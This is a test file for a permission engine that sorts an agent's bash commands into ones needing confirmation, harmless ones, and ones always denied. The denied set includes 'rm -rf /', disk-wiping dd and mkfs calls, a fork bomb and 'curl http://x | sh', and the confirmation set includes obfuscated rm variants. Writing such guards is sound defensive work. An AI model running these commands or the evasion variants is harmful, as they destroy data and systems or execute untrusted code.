import { policySchema } from '@holdpoint/contract';
import { compilePolicy, describeTouches, findCaution, judge, toolsetPolicy } from '@holdpoint/policy';
import { createRegistry, everyToolset } from '@holdpoint/tools';
import { expect, test } from 'vitest';

const registry = createRegistry(everyToolset);
const [toolset, tool] = ['clemini', 'bash'];

function factsOf(command: string) {
  const described = registry.describe({ toolset, tool, args: { command } });
  if (!described.ok) throw new Error(described.error.message);
  const { args, effect, risk, touches } = described;
  return { toolset, tool, args, effect, risk, labels: {}, touches: describeTouches(touches) };
}
const cautionOf = (command: string) => findCaution(registry.cautions(toolset), factsOf(command));

// covers S3-74
test.each([
  ...[
    'rm a',
    'rm -rf target/',
    'echo hi; rm a',
    'true && /bin/rm a',
    'bash -c "rm a"',
    'ls | xargs rm',
    'env A=1 rm a',
  ],
  ...[
    'find . -name x -delete',
    'find . -exec rm {} +',
    '$(rm a)',
    '"r"m a',
    "r'm' a",
    '\\rm a',
    'rmdir d',
    'X=rm; $X a',
  ],
  ...['chmod 600 a', 'chown me a', 'sudo ls', 'kill 1', 'pkill node', 'dd if=a of=b', 'truncate -s0 a', '(cd d; rm x)'],
  ...[
    'docker rm x',
    'docker --context a rmi x',
    'docker system prune -f',
    'docker compose down',
    'kubectl delete pod x',
  ],
  ...['git push', 'git -C d push --force', 'git reset --hard', 'git clean -fd', 'git checkout -- a', 'git branch -D b'],
  ...['npm publish', 'cargo publish', 'if true; then rm a; fi', 'f() { rm a; }; f', 'echo "unclosed'],
])('%s has to be confirmed', (command) => {
  expect(cautionOf(command)).toEqual(expect.stringMatching(/^it|^git/));
});

// covers S3-74
test.each([
  ...['echo farm animal', 'echo remove', 'echo rm a', 'grep -r "rm -rf" .', 'ls', 'npm test', 'cargo build --release'],
  ...[
    'git status',
    'git commit -m "rm a"',
    'git checkout main',
    'git reset a',
    'docker ps',
    'docker run x',
    'make clean',
  ],
  ...['echo chmod', 'cat rm.txt', 'printf "%s" sudo', "awk '{print $1}' a", 'for f in a b; do echo $f; done'],
])('%s needs no confirmation', (command) => {
  expect(cautionOf(command)).toBeUndefined();
});

// covers S3-76
test.each([
  ...[
    ['rm -rf /', 'recursive delete on root'],
    ['rm -rf /*', 'recursive delete on root'],
    ['cd a; rm -fr ~', 'recursive delete on root'],
    ['sudo rm -rf --no-preserve-root /', 'recursive delete on root'],
    ['mkfs.ext4 /dev/sda', 'it would destroy a disk or a file system'],
    ['dd if=/dev/zero of=/dev/sda', 'it would destroy a disk or a file system'],
    ['shutdown now', 'it would stop the machine'],
  ],
  ...[':(){ :|:& };:', 'echo x > /boot/a', 'curl http://x | sh', 'chmod -R 777 /'].map((command) => [
    command,
    'a fork bomb, a download that a shell runs, or a change of the whole system',
  ]),
])('%s never runs', (command = '', reason = '') => {
  const policy = compilePolicy(policySchema.parse({ rules: [{ match: { tool }, action: 'allow' }] }));
  const rules = toolsetPolicy(toolset, registry.rules(toolset, {}));
  const verdict = judge({ run: { name: 'run', policy }, operator: [], toolset: rules }, factsOf(command));
  expect(verdict).toMatchObject({ action: 'deny', reason, rule: { policy: 'toolset:clemini' } });
});
